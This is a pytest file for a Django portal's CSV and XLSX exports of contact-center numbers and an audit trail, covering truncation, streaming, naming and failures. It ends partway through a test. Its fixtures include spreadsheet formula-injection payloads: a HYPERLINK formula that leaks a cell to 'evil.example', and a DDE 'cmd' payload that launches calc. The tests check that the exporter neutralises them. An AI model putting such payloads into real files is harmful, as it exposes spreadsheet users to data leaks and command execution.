"""Exports through Django's test client, against the app's embedded emulator (numbers) and the
database (the audit trail): what a file holds, how it is written, streamed and named, and
where it says that a cap or a failure cut it (never among its rows, but for a CSV's failure).
"""

from __future__ import annotations

import codecs
import csv
import io
import itertools
import re
import subprocess
import threading
import uuid
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from urllib.parse import parse_qsl, unquote
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import stamina
from django.db import OperationalError
from django.utils import timezone, translation

from audit import exports as audit_exports
from ccc.emulator.dataset import (
    BULK_INSTANCE_ID,
    BULK_SKILL_GROUP_ID,
    CHAT_SKILL_GROUP_ID,
    EXAMPLE_CONTACT_FLOW_ID,
    EXAMPLE_INSTANCE_ID,
    EXAMPLE_NUMBER,
    EXAMPLE_SKILL_GROUP_ID,
)
from ccc.emulator.gateway import Response
from portal import exports as portal_exports
from portal.lists import EXPORT_FORMATS
from portal.text import moment_text

from .audit_trail import (
    ACCEPT_LANGUAGE,
    CCC_SAYS,
    EVERY_KIND_SAID,
    HISTORY_NUMBER,
    CccWords,
    every_kind_trail,
    four_actions,
    newest_first,
    number_history,
    numbers,
    refusal,
    two_groups_action,
)
from .emulator_data import listed_numbers
from .pages import Html
from .servers import require

NUMBERS = f"/instances/{EXAMPLE_INSTANCE_ID}/skill-groups/{EXAMPLE_SKILL_GROUP_ID}/numbers/"
HOTLINE = f"/instances/{BULK_INSTANCE_ID}/skill-groups/{BULK_SKILL_GROUP_ID}/numbers/"
AFTERSALES = f"/instances/{EXAMPLE_INSTANCE_ID}/skill-groups/aftersales@ccc-test/numbers/"
AUDIT = "/audit/"
LIST_NUMBERS = "ListPhoneNumbersOfSkillGroup"
ATTEMPTS = 3
HEADERS = ["Number", "Status", "Usage", "Province", "City", "Contact flow", "Contact flow ID"]
AUDIT_HEADERS = [
    "Time",
    "User",
    "Email",
    "Client address",
    "Skill group",
    "Skill group ID",
    "Instance",
    "Action",
    "Numbers",
    "Outcome",
    "Details",
    "Error code",
    "CCC RequestIds",
]
USAGE_WORDS = {
    "Inbound": "Inbound only",
    "Outbound": "Outbound only",
    "Bidirection": "Inbound and outbound",
}
PROXY = "10.0.3.7"
SHANGHAI = ZoneInfo("Asia/Shanghai")
INJECTED = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
FORMATS = ["csv", "xlsx"]


# -- helpers -----------------------------------------------------------------------------------


def download(client, url: str, **headers: str) -> tuple[object, list[bytes]]:
    """The response and the chunks its body was streamed in."""
    response = client.get(url, headers=headers)
    assert response.status_code == 200, response.content.decode()[:500]
    assert response.streaming
    # Read to the end, the test client closes the response (as a server does).
    return response, list(response.streaming_content)


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body[len(codecs.BOM_UTF8) :].decode(), newline="")))


def xlsx_sheet(body: bytes):
    return openpyxl.load_workbook(io.BytesIO(body)).active


def xlsx_notes(body: bytes) -> tuple[list[str], list[str]]:
    """The workbook's sheet names, and the sentences of its second sheet (none without one)."""
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    notes = workbook.worksheets[1:]
    return workbook.sheetnames, [value for sheet in notes for (value,) in sheet.values]


def file_name(response) -> str:
    """The download's UTF-8 name (RFC 6266's filename*)."""
    return unquote(response["Content-Disposition"].split("''")[1])


def xlsx_rows(body: bytes) -> list[list[str]]:
    """Each row's values, "" for an empty cell (a sheet's rows are all as wide as its widest)."""
    return [
        ["" if value is None else value for value in row]
        for row in xlsx_sheet(body).iter_rows(values_only=True)
    ]


def rows_of(file_format: str, body: bytes) -> list[list[str]]:
    """The rows of either format, without the empty cells a row ends in (XLSX rows are all as
    wide as the widest)."""
    return [trimmed(row) for row in (csv_rows if file_format == "csv" else xlsx_rows)(body)]


def trimmed(row: list[str]) -> list[str]:
    row = list(row)
    while row and row[-1] == "":
        row.pop()
    return row


def expected_row(emulator, instance_id: str, number: str) -> list[str]:
    """A number's row as the export writes it, from the emulator's own data."""
    instance = emulator.instances[instance_id]
    record = instance.numbers[number]
    flow = record.contact_flow_id
    return trimmed(
        [
            number,
            "Active" if record.active else "Inactive",
            USAGE_WORDS[record.usage],
            record.province,
            record.city,
            instance.contact_flows[flow].name if flow else "",
            flow,
        ]
    )


def cst(day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2025, 12, day, hour, minute, tzinfo=SHANGHAI)


def cut_note(total: int) -> str:
    return (
        f"Only the first 10,000 of {total:,} matching numbers are exported: CCC lists no "
        "more. Narrow the search to export the rest."
    )


@pytest.fixture
def fast_retries():
    stamina.set_testing(True, attempts=ATTEMPTS)
    yield
    stamina.set_testing(False)


@pytest.fixture
def hostile_text(app_emulator):
    """Text from CCC that a spreadsheet would take for formulas, on the example number."""
    instance = app_emulator.instances[EXAMPLE_INSTANCE_ID]
    instance.contact_flows[EXAMPLE_CONTACT_FLOW_ID].name = INJECTED
    record = instance.numbers[EXAMPLE_NUMBER]
    record.province = "+1+1"
    record.city = "@SUM(1,2)"
    return app_emulator


# -- what a file holds -------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", FORMATS)
def test_the_big_group_exports_the_apis_first_10000_and_says_the_cap_cut_it(
    client, app_emulator, file_format
):
    listed = listed_numbers(app_emulator, BULK_INSTANCE_ID, BULK_SKILL_GROUP_ID, linked=False)
    assert len(listed) > 10_000
    today = timezone.localdate().isoformat()

    response, chunks = download(client, HOTLINE + f"export.{file_format}?view=eligible")
    rows = rows_of(file_format, b"".join(chunks))

    # Rows of data alone, the 10,000th the last: sorting or reading them meets no sentence.
    assert rows[0] == HEADERS
    assert [row[0] for row in rows[1:]] == listed[:10_000]
    assert rows[1:] == [
        expected_row(app_emulator, BULK_INSTANCE_ID, number) for number in listed[:10_000]
    ]
    # The cap is said before the first byte: in the name and a header a script can read.
    assert file_name(response) == (
        f"ccc-bulk_Nationwide hotline_eligible_first-10000-of-{len(listed)}_{today}.{file_format}"
    )
    assert response["X-Export-Truncated"] == f"exported=10000, total={len(listed)}"


def test_a_capped_xlsx_says_so_on_a_second_sheet_and_filters_its_data(client, app_emulator):
    listed = listed_numbers(app_emulator, BULK_INSTANCE_ID, BULK_SKILL_GROUP_ID, linked=False)

    _, chunks = download(client, HOTLINE + "export.xlsx?view=eligible")
    body = b"".join(chunks)

    sheet = xlsx_sheet(body)
    assert (sheet.title, sheet.max_row, sheet.auto_filter.ref) == ("Numbers", 10_001, "A1:G10001")
    assert sheet.freeze_panes == "A2"
    assert xlsx_notes(body) == (["Numbers", "Notes"], [cut_note(len(listed))])


def test_a_capped_export_says_so_in_the_readers_words(client, app_emulator):
    total = len(listed_numbers(app_emulator, BULK_INSTANCE_ID, BULK_SKILL_GROUP_ID, linked=False))

    response, chunks = download(
        client, HOTLINE + "export.xlsx?view=eligible", **{"Accept-Language": "zh-hans"}
    )

    assert f"_前10000行-共{total}行_" in file_name(response)
    assert response["X-Export-Truncated"] == f"exported=10000, total={total}"
    assert xlsx_notes(b"".join(chunks)) == (
        ["号码", "说明"],
        [
            f"共有 {total:,} 个符合条件的号码，仅导出了前 10,000 个（云联络中心最多只能列出这些）。"
            "如需导出其余号码，请缩小搜索范围。"
        ],
    )


def test_an_export_within_the_cap_says_nothing_of_one(client, app_emulator):
    listed = listed_numbers(app_emulator, EXAMPLE_INSTANCE_ID, EXAMPLE_SKILL_GROUP_ID, linked=False)

    csv_response, _ = download(client, NUMBERS + "export.csv?view=eligible")
    xlsx_response, chunks = download(client, NUMBERS + "export.xlsx?view=eligible")
    body = b"".join(chunks)

    for response in (csv_response, xlsx_response):
        assert not response.has_header("X-Export-Truncated")
        assert "first-" not in file_name(response)
    # One sheet, filtered over every row.
    assert xlsx_notes(body) == (["Numbers"], [])
    assert xlsx_sheet(body).auto_filter.ref == f"A1:G{len(listed) + 1}"


def test_a_csv_is_streamed_a_page_at_a_time(client, app_emulator):
    _, chunks = download(client, HOTLINE + "export.csv?view=eligible")

    # The header with the first page, then the 99 others; no note after them.
    assert len(chunks) == 100
    assert all(chunk.count(b"\r\n") == 100 for chunk in chunks[1:])


@pytest.mark.parametrize("file_format", FORMATS)
def test_a_filtered_export_holds_the_view_search_and_status(client, app_emulator, file_format):
    every = listed_numbers(app_emulator, EXAMPLE_INSTANCE_ID, EXAMPLE_SKILL_GROUP_ID, linked=False)
    active = listed_numbers(
        app_emulator, EXAMPLE_INSTANCE_ID, EXAMPLE_SKILL_GROUP_ID, linked=False, active=True
    )
    expected = [number for number in active if "0833" in number]
    assert 0 < len(expected) < len([number for number in every if "0833" in number])

    _, chunks = download(client, NUMBERS + f"export.{file_format}?view=eligible&q=0833&active=true")
    rows = rows_of(file_format, b"".join(chunks))

    # Every match and nothing after them: nothing was cut.
    assert rows[1:] == [
        expected_row(app_emulator, EXAMPLE_INSTANCE_ID, number) for number in expected
    ]


def test_an_export_without_matches_is_its_header(client, app_emulator):
    _, chunks = download(client, NUMBERS + "export.csv?q=99999999999")

    assert csv_rows(b"".join(chunks)) == [HEADERS]


def test_a_chat_group_s_eligible_export_offers_no_number_as_its_page(client, app_emulator):
    chat = f"/instances/{EXAMPLE_INSTANCE_ID}/skill-groups/{CHAT_SKILL_GROUP_ID}/numbers/"
    _, chunks = download(client, chat + "export.csv?view=eligible")

    assert csv_rows(b"".join(chunks)) == [HEADERS]


def test_columns_are_in_the_readers_language(client, app_emulator):
    url = NUMBERS + f"export.csv?q={EXAMPLE_NUMBER}"
    _, english = download(client, url)
    _, chinese = download(client, url, **{"Accept-Language": "zh-hans"})

    # The same link, each reader's words: headers, status and usage.
    assert csv_rows(b"".join(english))[1][:3] == [EXAMPLE_NUMBER, "Active", "Inbound and outbound"]
    assert csv_rows(b"".join(chinese))[0][:2] == ["号码", "状态"]
    assert csv_rows(b"".join(chinese))[1][:2] == [EXAMPLE_NUMBER, "可用"]


# -- how it is written -------------------------------------------------------------------------


def test_a_csv_is_utf8_with_a_bom_and_rfc_4180(client, app_emulator):
    awkward = 'Le "shan", 乐山\r\nsecond line'
    app_emulator.instances[EXAMPLE_INSTANCE_ID].numbers[EXAMPLE_NUMBER].city = awkward

    response, chunks = download(client, NUMBERS + f"export.csv?q={EXAMPLE_NUMBER}")
    body = b"".join(chunks)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert body.startswith(codecs.BOM_UTF8 + b"Number,Status,Usage,")
    text = body.decode("utf-8-sig")
    # Records end in CRLF; a field with quotes, a comma or a line break is quoted, its quotes
    # doubled.
    assert text == (
        "Number,Status,Usage,Province,City,Contact flow,Contact flow ID\r\n"
        f'{EXAMPLE_NUMBER},Active,Inbound and outbound,四川,"Le ""shan"", 乐山\r\nsecond line",'
        f"售后服务流程,{EXAMPLE_CONTACT_FLOW_ID}\r\n"
    )
    assert csv_rows(body)[1][4] == awkward


def test_csv_text_from_ccc_never_starts_a_formula(client, hostile_text):
    _, chunks = download(client, NUMBERS + f"export.csv?q={EXAMPLE_NUMBER}")

    assert csv_rows(b"".join(chunks))[1] == [
        EXAMPLE_NUMBER,
        "Active",
        "Inbound and outbound",
        "'+1+1",
        "'@SUM(1,2)",
        "'" + INJECTED,
        EXAMPLE_CONTACT_FLOW_ID,
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_owasp_lists_is_guarded(client, app_emulator, start):
    app_emulator.instances[EXAMPLE_INSTANCE_ID].numbers[EXAMPLE_NUMBER].city = f"{start}1+1"

    _, csv_chunks = download(client, NUMBERS + f"export.csv?q={EXAMPLE_NUMBER}")
    _, xlsx_chunks = download(client, NUMBERS + f"export.xlsx?q={EXAMPLE_NUMBER}")

    assert csv_rows(b"".join(csv_chunks))[1][4] == f"'{start}1+1"
    city = xlsx_sheet(b"".join(xlsx_chunks))["E2"]
    # (XML reads a carriage return back as a line feed.)
    assert (city.value[1:], city.data_type, city.quotePrefix) == ("1+1", "s", True)


def test_xlsx_is_written_through_lxml():
    """Without lxml openpyxl falls back to a pure-Python XML writer, and a 10,000-row export
    takes about a tenth longer."""
    from openpyxl.xml import LXML

    assert LXML


def test_xlsx_text_from_ccc_is_a_string_never_a_formula(client, hostile_text):
    response, chunks = download(client, NUMBERS + f"export.xlsx?q={EXAMPLE_NUMBER}")
    sheet = xlsx_sheet(b"".join(chunks))

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    cells = {cell.coordinate: cell for cell in sheet[2]}
    # The values are exact; the cells are strings, quote-prefixed (Excel's apostrophe).
    for coordinate, value in (("D2", "+1+1"), ("E2", "@SUM(1,2)"), ("F2", INJECTED)):
        assert (cells[coordinate].value, cells[coordinate].data_type) == (value, "s")
        assert cells[coordinate].quotePrefix
    assert not cells["B2"].quotePrefix  # our own words need no guard


def test_xlsx_numbers_are_exact_text_and_the_header_row_is_frozen(client, app_emulator):
    listed = listed_numbers(app_emulator, EXAMPLE_INSTANCE_ID, EXAMPLE_SKILL_GROUP_ID, linked=False)
    # Leading zeros (0833…) and 11-digit mobile numbers, which Excel would turn into 1.3E+10.
    assert any(number.startswith("0") for number in listed)
    assert any(re.fullmatch(r"1\d{10}", number) for number in listed)

    _, chunks = download(client, NUMBERS + "export.xlsx?view=eligible")
    sheet = xlsx_sheet(b"".join(chunks))

    column = [cell for (cell,) in sheet.iter_rows(min_row=2, max_col=1)]
    assert [cell.value for cell in column] == listed
    assert {(cell.data_type, cell.number_format) for cell in column} == {("s", "@")}
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert all(cell.font.bold for cell in sheet[1])


def test_the_file_is_named_by_instance_group_view_and_date(client, app_emulator):
    today = timezone.localdate().isoformat()

    response, _ = download(client, AFTERSALES + "export.xlsx?view=eligible")

    # RFC 6266: the UTF-8 name (the group is 售后服务), and an ASCII one for older clients.
    disposition = response["Content-Disposition"]
    assert disposition == (
        f'attachment; filename="ccc-test_eligible_{today}.xlsx"; '
        f"filename*=UTF-8''ccc-test_%E5%94%AE%E5%90%8E%E6%9C%8D%E5%8A%A1_eligible_{today}.xlsx"
    )
    assert unquote(disposition.split("''")[1]) == f"ccc-test_售后服务_eligible_{today}.xlsx"
    assert "no-store" in response["Cache-Control"]


def test_a_searched_export_is_named_by_its_search_too(client, app_emulator):
    today = timezone.localdate().isoformat()

    response, _ = download(client, AFTERSALES + "export.csv?view=eligible&q=0833")

    assert response["Content-Disposition"].startswith(
        f'attachment; filename="ccc-test_eligible_search-0833_{today}.csv"; '
    )
    assert file_name(response) == f"ccc-test_售后服务_eligible_search-0833_{today}.csv"


@pytest.mark.parametrize(("view", "words"), [("linked", "已关联"), ("eligible", "可关联")])
def test_a_chinese_file_name_says_the_view_and_the_search_in_chinese(
    client, app_emulator, view, words
):
    """The words of the page's view toggle, and the search, as a Chinese reader reads them."""
    today = timezone.localdate().isoformat()

    response, _ = download(
        client, AFTERSALES + f"export.xlsx?view={view}&q=0833", **{"Accept-Language": "zh-hans"}
    )

    assert file_name(response) == f"ccc-test_售后服务_{words}_搜索-0833_{today}.xlsx"


def test_a_file_name_never_holds_a_path(client, app_emulator):
    group = app_emulator.instances[EXAMPLE_INSTANCE_ID].skill_groups[EXAMPLE_SKILL_GROUP_ID]
    group.display_name = '../"客户"\\服务:*?'
    today = timezone.localdate().isoformat()

    response, _ = download(client, NUMBERS + "export.csv")

    assert response["Content-Disposition"] == (
        f'attachment; filename="ccc-test_linked_{today}.csv"; '
        f"filename*=UTF-8''ccc-test_{_quoted('客户-服务')}_linked_{today}.csv"
    )


def _quoted(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode()).replace("%2D", "-")


def test_an_unknown_format_is_not_found(client, app_emulator):
    assert client.get(NUMBERS + "export.pdf").status_code == 404


# -- failures, budget and pace -----------------------------------------------------------------


@pytest.mark.parametrize("file_format", FORMATS)
def test_a_failure_before_the_first_row_is_the_usual_error_page(
    client, app_emulator, fast_retries, file_format
):
    app_emulator.faults.inject("throttling", times=ATTEMPTS, action=LIST_NUMBERS)

    response = client.get(HOTLINE + f"export.{file_format}?view=eligible")

    assert response.status_code == 503
    assert not response.streaming
    assert not response.has_header("Content-Disposition")
    page = Html(response.content.decode())
    assert page.find("div", role="alert")
    assert "The contact center is busy (requests are being throttled)." in page.text
    assert response["Retry-After"] == "5"
    assert (f"/instances/{BULK_INSTANCE_ID}/skill-groups/", "Go back") in page.links


@pytest.fixture
def unavailable_past_page_10(app_emulator):
    """Every attempt at page 11 fails, whatever order the pages in flight arrive in: the first
    ten are written before the failure, after the response has started."""
    handle = app_emulator.handle

    def unavailable(environ):
        page = dict(parse_qsl(environ.get("QUERY_STRING", ""))).get("PageNumber", "0")
        if environ.get("HTTP_X_ACS_ACTION") == LIST_NUMBERS and int(page) > 10:
            request_id = str(uuid.uuid4()).upper()
            return Response.json(
                503,
                {"RequestId": request_id, "Code": "ServiceUnavailable", "Message": ""},
                request_id,
            )
        return handle(environ)

    app_emulator.handle = unavailable
    return app_emulator


INCOMPLETE = re.compile(
    r"The export is incomplete: the contact center failed after 1,000 of 10,000 rows "
    r"\(ServiceUnavailable, RequestId [0-9A-F-]{36}\)\. Export again to get every row\."
)


def test_a_failure_midway_ends_the_csv_saying_it_is_incomplete(
    client, unavailable_past_page_10, fast_retries
):
    listed = listed_numbers(
        unavailable_past_page_10, BULK_INSTANCE_ID, BULK_SKILL_GROUP_ID, linked=False
    )

    _, chunks = download(client, HOTLINE + "export.csv?view=eligible")
    rows = csv_rows(b"".join(chunks))

    # The rows were sent before the failure: the file can only end saying so.
    written = [row[0] for row in rows[1:-1]]
    assert written == listed[:1_000]
    (note,) = rows[-1]
    assert INCOMPLETE.fullmatch(note)


def test_a_failure_midway_is_said_on_the_xlsx_notes_sheet(
    client, unavailable_past_page_10, fast_retries
):
    listed = listed_numbers(
        unavailable_past_page_10, BULK_INSTANCE_ID, BULK_SKILL_GROUP_ID, linked=False
    )

    _, chunks = download(client, HOTLINE + "export.xlsx?view=eligible")
    body = b"".join(chunks)

    assert [row[0] for row in xlsx_rows(body)[1:]] == listed[:1_000]
    assert xlsx_sheet(body).auto_filter.ref == "A1:G1001"
    # The group is past the cap too: both are said, the cap first.
    names, (cut, incomplete) = xlsx_notes(body)
    assert names == ["Numbers", "Notes"]
    assert cut == cut_note(len(listed))
    assert INCOMPLETE.fullmatch(incomplete)


def test_a_failure_after_the_response_started_still_ends_the_csv(
    client, app_emulator, fast_retries
):
    """The fault comes while the body is being read, after two pages were written."""
    response = client.get(HOTLINE + "export.csv?view=eligible")
    chunks = iter(response.streaming_content)
    started = [next(chunks), next(chunks)]
    app_emulator.faults.inject("unavailable", times=100 * ATTEMPTS, action=LIST_NUMBERS)
    rows = csv_rows(b"".join([*started, *chunks]))

    written = [row[0] for row in rows[1:-1]]
    # The pages already fetched (at most the eight in flight) are written, then the note.
    assert 200 <= len(written) <= 1000
    assert (
        written
        == listed_numbers(app_emulator, BULK_INSTANCE_ID, BULK_SKILL_GROUP_ID, linked=False)[
            : len(written)
        ]
    )
    assert rows[-1][0].startswith(
        f"The export is incomplete: the contact center failed after {len(written):,} of 10,000"
    )


def test_an_export_has_a_budget_of_its_own_beyond_the_requests(client, app_emulator, settings):
    settings.CCC_REQUEST_BUDGET = 0.3
    settings.CCC_EXPORT_PAGES_IN_FLIGHT = 1
    app_emulator.faults.latency = 0.1
    listed = listed_numbers(app_emulator, EXAMPLE_INSTANCE_ID, EXAMPLE_SKILL_GROUP_ID, linked=False)
    assert len(listed) > 300  # more than 3 pages, one after another: past the request's budget

    _, chunks = download(client, NUMBERS + "export.csv?view=eligible")

    assert [row[0] for row in csv_rows(b"".join(chunks))[1:]] == listed


def test_the_first_page_waits_no_longer_than_a_page(client, app_emulator, settings):
    settings.CCC_REQUEST_BUDGET = 0  # no time at all before the response starts

    response = client.get(NUMBERS + "export.csv?view=eligible")

    assert response.status_code == 504
    assert "The contact center did not answer in time." in Html(response.content.decode()).text
    assert app_emulator.request_count == 0


def test_an_export_stops_at_its_budget_saying_so(client, app_emulator, settings):
    settings.CCC_EXPORT_BUDGET = 0.3
    settings.CCC_EXPORT_PAGES_IN_FLIGHT = 1
    app_emulator.faults.latency = 0.1

    listed = listed_numbers(app_emulator, EXAMPLE_INSTANCE_ID, EXAMPLE_SKILL_GROUP_ID, linked=False)

    _, chunks = download(client, NUMBERS + "export.csv?view=eligible")
    rows = csv_rows(b"".join(chunks))

    # One page after another, 0.1 s each: the budget ends before the last of them.
    written = [row[0] for row in rows[1:-1]]
    assert 100 <= len(written) < len(listed)
    assert written == listed[: len(written)]
    assert rows[-1] == [
        f"The export is incomplete: the contact center failed after {len(written)} of "
        f"{len(listed)} rows (Timeout). Export again to get every row."
    ]


def test_pages_are_fetched_a_few_at_a_time_and_written_in_order(client, settings, app_emulator):
    settings.CCC_EXPORT_PAGES_IN_FLIGHT = 4
    app_emulator.faults.latency = 0.01
    lock = threading.Lock()
    running = [0]
    most = [0]
    handle = app_emulator.handle

    def counted(environ):
        if environ.get("HTTP_X_ACS_ACTION") != LIST_NUMBERS:
            return handle(environ)
        with lock:
            running[0] += 1
            most[0] = max(most[0], running[0])
        try:
            return handle(environ)
        finally:
            with lock:
                running[0] -= 1

    app_emulator.handle = counted

    _, chunks = download(client, HOTLINE + "export.csv?view=eligible")

    listed = listed_numbers(app_emulator, BULK_INSTANCE_ID, BULK_SKILL_GROUP_ID, linked=False)
    assert [row[0] for row in csv_rows(b"".join(chunks))[1:]] == listed[:10_000]
    assert most[0] == 4
    assert app_emulator.request_count == 100 + 2  # the pages, the group and its flows


# -- links -------------------------------------------------------------------------------------


@pytest.mark.parametrize("htmx", [False, True], ids=["page", "fragment"])
def test_the_numbers_page_links_its_exports_with_its_query(client, app_emulator, htmx):
    response = client.get(
        NUMBERS + "?view=eligible&q=0833&active=true&per_page=50&page=2",
        headers={"HX-Request": "true", "Accept-Language": "zh-hans"} if htmx else {},
    )
    page = Html(response.content.decode())

    exported = [
        attrs for tag, attrs in page.elements if tag == "a" and "/export." in attrs.get("href", "")
    ]
    # Every row (no page or page size), no language; downloads, never htmx swaps.
    assert [attrs["href"] for attrs in exported] == [
        NUMBERS + "export.csv?view=eligible&q=0833&active=true",
        NUMBERS + "export.xlsx?view=eligible&q=0833&active=true",
    ]
    assert not [attrs for attrs in exported if any(name.startswith("hx-") for name in attrs)]
    if not htmx:
        assert {text for _, text in page.links} >= {"Export CSV", "Export Excel"}


def test_the_skill_group_list_has_no_exports(client, app_emulator):
    page = Html(client.get(f"/instances/{EXAMPLE_INSTANCE_ID}/skill-groups/").content.decode())

    assert not [href for href, _ in page.links if "/export." in href]


def test_every_format_linked_is_written():
    assert set(EXPORT_FORMATS) == set(portal_exports.FORMATS)


# -- every number of an instance ---------------------------------------------------------------

INSTANCE_NUMBERS = f"/instances/{EXAMPLE_INSTANCE_ID}/numbers/"
BULK_NUMBERS = f"/instances/{BULK_INSTANCE_ID}/numbers/"
INSTANCE_HEADERS = [*HEADERS, "Skill groups", "Provider", "Agent"]


def expected_instance_row(emulator, instance_id: str, number: str) -> list[str]:
    """A number's row of its instance's export, from the emulator's own data: its skill groups
    by name, its provider, and the agent whose personal outbound number it is, by user id."""
    instance = emulator.instances[instance_id]
    record = instance.numbers[number]
    groups = [g.display_name for g in instance.skill_groups.values() if number in g.linked]
    return trimmed(
        [
            *expected_row(emulator, instance_id, number),
            *[""] * (len(HEADERS) - len(expected_row(emulator, instance_id, number))),
            ", ".join(groups),
            record.provider,
            record.user_id,
        ]
    )


def instance_numbers_of(emulator, instance_id: str, **filters) -> list[str]:
    search, usage, active = filters.get("q", ""), filters.get("usage", ""), filters.get("active")
    return [
        record.number
        for record in emulator.instances[instance_id].numbers.values()
        if search in record.number
        and usage in ("", record.usage)
        and active in (None, record.active)
    ]


@pytest.mark.parametrize("file_format", FORMATS)
def test_an_instance_s_numbers_export_every_number_with_groups_provider_and_agent(
    client, app_emulator, file_format
):
    every = instance_numbers_of(app_emulator, EXAMPLE_INSTANCE_ID)
    today = timezone.localdate().isoformat()

    response, chunks = download(client, INSTANCE_NUMBERS + f"export.{file_format}")
    rows = rows_of(file_format, b"".join(chunks))

    assert rows[0] == INSTANCE_HEADERS
    assert rows[1:] == [
        expected_instance_row(app_emulator, EXAMPLE_INSTANCE_ID, number) for number in every
    ]
    # Numbers in several groups, and agents' personal numbers, are among them.
    assert any(", " in row[INSTANCE_HEADERS.index("Skill groups")] for row in rows[1:])
    assert any(row[-1:] == ["agent@ccc-test"] for row in rows[1:])
    assert file_name(response) == f"ccc-test_numbers_{today}.{file_format}"
    assert not response.has_header("X-Export-Truncated")


@pytest.mark.parametrize("file_format", FORMATS)
def test_an_instance_s_export_holds_its_page_s_search_usage_and_status(
    client, app_emulator, file_format
):
    filters = {"q": "0", "usage": "Inbound", "active": False}
    expected = instance_numbers_of(app_emulator, EXAMPLE_INSTANCE_ID, **filters)
    assert 0 < len(expected) < len(instance_numbers_of(app_emulator, EXAMPLE_INSTANCE_ID, q="0"))
    today = timezone.localdate().isoformat()

    response, chunks = download(
        client, INSTANCE_NUMBERS + f"export.{file_format}?q=0&usage=Inbound&active=false"
    )
    rows = rows_of(file_format, b"".join(chunks))

    assert rows[1:] == [
        expected_instance_row(app_emulator, EXAMPLE_INSTANCE_ID, number) for number in expected
    ]
    assert file_name(response) == f"ccc-test_numbers_search-0_{today}.{file_format}"


def test_an_instance_s_export_rows_are_its_listing_s(client, app_emulator):
    page = Html(client.get(INSTANCE_NUMBERS + "?q=0833&per_page=100").content.decode())

    _, chunks = download(client, INSTANCE_NUMBERS + "export.csv?q=0833")
    rows = csv_rows(b"".join(chunks))

    assert [row[0] for row in rows[1:]] == [row[0] for row in page.rows]
    listed = {row[0]: row for row in page.rows}
    shown = ("Status", "Province", "City", "Contact flow", "Skill groups", "Provider")
    for row in rows[1:]:
        cells = dict(zip(INSTANCE_HEADERS, row, strict=True))
        on_page = dict(zip(page.headers, listed[row[0]], strict=True))
        assert {name: on_page[name] or "—" for name in shown} == {
            "Status": ("✓ " if cells["Status"] == "Active" else "✕ ") + cells["Status"],
            **{name: cells[name] or "—" for name in shown[1:]},
        }


@pytest.mark.parametrize("file_format", FORMATS)
def test_the_bulk_instance_s_export_is_capped_at_10000_saying_so(client, app_emulator, file_format):
    every = instance_numbers_of(app_emulator, BULK_INSTANCE_ID)
    assert len(every) == 12_000
    today = timezone.localdate().isoformat()

    response, chunks = download(client, BULK_NUMBERS + f"export.{file_format}")
    rows = rows_of(file_format, b"".join(chunks))

    assert rows[0] == INSTANCE_HEADERS
    assert [row[0] for row in rows[1:]] == every[:10_000]
    assert rows[-1] == expected_instance_row(app_emulator, BULK_INSTANCE_ID, every[9_999])
    assert response["X-Export-Truncated"] == "exported=10000, total=12000"
    assert file_name(response) == f"ccc-bulk_numbers_first-10000-of-12000_{today}.{file_format}"


@pytest.mark.parametrize("htmx", [False, True], ids=["page", "fragment"])
def test_the_instance_s_numbers_page_links_its_exports_with_its_query(client, app_emulator, htmx):
    response = client.get(
        INSTANCE_NUMBERS + "?q=0833&usage=Inbound&active=true&per_page=50&page=2",
        headers={"HX-Request": "true"} if htmx else {},
    )
    page = Html(response.content.decode())

    assert [href for href, _ in page.links if "/export." in href] == [
        INSTANCE_NUMBERS + "export.csv?q=0833&usage=Inbound&active=true",
        INSTANCE_NUMBERS + "export.xlsx?q=0833&usage=Inbound&active=true",
    ]


# -- the audit trail ---------------------------------------------------------------------------

DONE_AT = "2025-12-01 07:30:00 CST"
OUTCOME, DETAILS = AUDIT_HEADERS.index("Outcome"), AUDIT_HEADERS.index("Details")


@pytest.fixture
def trail(db):
    four_actions()
    refusal(cst(2, 8), detail="not an editor", username="=cmd|' /C calc'!A0", email="")


AUDIT_ROWS = [
    [
        "2025-12-02 08:00:00 CST",
        "'=cmd|' /C calc'!A0",
        "",
        "10.1.2.3",
        "Customer service",
        EXAMPLE_SKILL_GROUP_ID,
        EXAMPLE_INSTANCE_ID,
        "Link",
        "",
        "Refused",
        "The user is not an editor.",
        "",
        "",
    ],
    [
        "2025-12-02 00:00:00 CST",
        "alice",
        "alice@example.com",
        "10.1.2.3",
        "Nationwide hotline",
        BULK_SKILL_GROUP_ID,
        BULK_INSTANCE_ID,
        "Link",
        " ".join(numbers(2, first=40)),
        "Failed",
        "CCC says: “The access key may not change skill groups.”",
        "Forbidden.NoPermission",
        "REQ-D",
    ],
    [
        "2025-12-01 23:30:00 CST",
        "bob@example.com",
        "bob@example.com",
        "10.1.2.4",
        "Customer service",
        EXAMPLE_SKILL_GROUP_ID,
        EXAMPLE_INSTANCE_ID,
        "Unlink",
        " ".join(numbers(3)),
        "Partly done",
        "2 done, 1 not done, 0 unknown\nCCC says: “1 number was no longer linked.”",
        "",
        "REQ-C1 REQ-C2",
    ],
    [
        "2025-12-01 10:00:00 CST",
        "bob@example.com",
        "bob@example.com",
        "10.1.2.4",
        "Customer service",
        EXAMPLE_SKILL_GROUP_ID,
        EXAMPLE_INSTANCE_ID,
        f"Undo of the link of {DONE_AT}",
        " ".join(numbers(3)),
        "Done",
        "",
        "",
        "REQ-B",
    ],
    [
        DONE_AT,
        "alice",
        "alice@example.com",
        "10.1.2.3",
        "Customer service",
        EXAMPLE_SKILL_GROUP_ID,
        EXAMPLE_INSTANCE_ID,
        "Link",
        " ".join(numbers(12)),
        "Done",
        "",
        "",
        "REQ-A",
    ],
]


@pytest.mark.database
@pytest.mark.parametrize("file_format", FORMATS)
def test_the_audit_trail_exports_its_columns_in_words_newest_first(client, trail, file_format):
    response, chunks = download(client, AUDIT + f"export.{file_format}")
    rows = rows_of(file_format, b"".join(chunks))

    assert rows[0] == AUDIT_HEADERS
